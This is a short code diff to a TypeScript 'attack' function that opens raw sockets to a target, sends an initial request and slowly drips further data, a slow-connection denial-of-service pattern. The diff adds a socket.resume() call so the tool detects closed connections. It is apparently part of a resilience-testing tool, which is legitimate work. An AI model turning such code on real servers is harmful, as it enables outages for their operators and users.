@@ -70,6 +70,8 @@ async function attack({ baseUrl }: Target, { idle, slow }: Extent): Promise<Sock
   const open = async (first: string, drip: string) => {
     const socket = connect({ host: hostname, port: Number(port) })
     socket.on('error', () => {})
+    // Who does not read never learns that the other side has closed.
+    socket.resume()
     await once(socket, 'connect').catch(() => {})
     if (first !== '') socket.write(first)
     if (drip === '') return socket
